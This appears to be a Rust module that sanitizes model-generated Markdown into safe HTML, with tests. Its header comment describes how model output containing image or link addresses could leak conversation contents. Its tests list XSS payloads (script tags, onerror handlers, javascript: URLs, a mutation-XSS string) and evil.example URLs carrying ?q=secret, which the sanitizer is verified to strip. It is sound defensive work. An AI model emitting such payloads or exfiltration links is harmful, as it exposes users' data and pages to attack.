//! Markdown that a model wrote, as HTML that may stand in a page.
//!
//! The key decision: what a model writes is untrusted. It is sanitized here, by an allow-list, and not in the
//! browser. Pictures are left out: an address made by a model would be fetched and could carry out
//! what the conversation holds. Links are inert for the same reason: their text stands there with the host that they
//! would lead to, and the whole address where a reader can look at it and take it.

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};

/// Safe HTML.
pub(crate) fn to_html(markdown: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let markdown = yushan_abi::printable(&markdown.replace("\r\n", "\n"));
    let mut hosts = Vec::new();
    let events = Parser::new_ext(&markdown, options).map(|event| match event {
        Event::Start(Tag::Link { dest_url, .. }) => {
            let web =
                ["https://", "http://", "mailto:"].iter().any(|way| dest_url.starts_with(way));
            let address = if web { dest_url.to_string() } else { String::new() };
            let title = escaped(&address);
            hosts.push(escaped(host(&address)));
            Event::InlineHtml(CowStr::from(format!("<span title=\"{title}\">")))
        }
        Event::End(TagEnd::Link) => {
            let host = hosts.pop().unwrap_or_default();
            Event::InlineHtml(CowStr::from(format!("</span> <small>({host})</small>")))
        }
        event => event,
    });
    let mut raw = String::new();
    html::push_html(&mut raw, events);
    ammonia::Builder::default()
        .rm_tags(["img", "a", "area", "map"])
        .link_rel(None)
        .clean(&raw)
        .to_string()
}

/// The host of an address, whoever the user in it claims to be; without one, the address.
fn host(address: &str) -> &str {
    let Some((_, rest)) = address.split_once("://") else { return address };
    let host = rest.split(['/', '?', '#', '\\']).next().unwrap_or(rest);
    host.rsplit('@').next().unwrap_or(host)
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;").replace('>', "&gt;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_runs_or_is_fetched_does_not_come_through() {
        for markdown in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![a](https://evil.example/?q=secret)",
            "[a](javascript:alert(1))",
            "<a href=\"jAvascript:alert(1)\">a</a>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=//evil.example></iframe>",
            "<p style=\"background:url(//evil.example)\" onclick=alert(1)>a",
            "<style>*{background:url(//evil.example)}</style>",
            "<form action=//evil.example><input name=a></form>",
            "[a](https://evil.example/?q=secret)",
            "<a href=\"https://evil.example/?q=secret\">a</a>",
            "<map><area href=//evil.example></map>",
            "<link rel=prefetch href=//evil.example><meta http-equiv=refresh content=0>",
            "a\u{202e}b\u{e0041}",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        ] {
            let html = to_html(markdown).to_lowercase();
            for bad in
                ["<script", "<img", "javascript:", "onerror=", "onclick=", "<iframe", "<style"]
            {
                assert!(!html.contains(bad), "{markdown}: {html}");
            }
            for bad in
                ["<form", "style=", "<svg", "<input", "src=", "<a", "href=", "<link", "<meta"]
            {
                assert!(!html.contains(bad), "{markdown}: {html}");
            }
            assert!(!html.contains(yushan_abi::is_hidden), "{markdown}: {html}");
        }
    }

    #[test]
    fn markdown_becomes_html() {
        for (markdown, expected) in [
            ("**a**", "<strong>a</strong>"),
            ("|a|\n|-|\n|b|", "<td>b</td>"),
            ("`1 < 2`", "<code>1 &lt; 2</code>"),
            (
                "[a](https://example.org/x)",
                "<span title=\"https://example.org/x\">a</span> <small>(example.org)</small>",
            ),
            ("[bank](https://bank.example@evil.example/)", "<small>(evil.example)</small>"),
            ("<https://example.org>", "<small>(example.org)</small>"),
        ] {
            let html = to_html(markdown);
            assert!(html.contains(expected), "{markdown}: {html}");
        }
    }
}
